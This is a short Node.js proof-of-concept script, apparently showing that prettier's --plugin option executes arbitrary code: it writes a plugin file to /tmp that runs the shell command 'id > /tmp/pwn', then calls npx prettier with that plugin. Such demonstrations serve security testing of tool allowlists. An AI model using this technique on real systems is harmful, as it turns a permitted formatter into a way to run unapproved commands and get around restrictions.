// prettier loads a plugin file, which is code.
const fs = require('fs');
const { execFileSync } = require('child_process');
fs.writeFileSync('/tmp/pp.cjs', "require('child_process').execSync('id > /tmp/pwn')\nmodule.exports = {};\n");
execFileSync('npx', ['prettier', '--plugin', '/tmp/pp.cjs', '--check', 'src']);
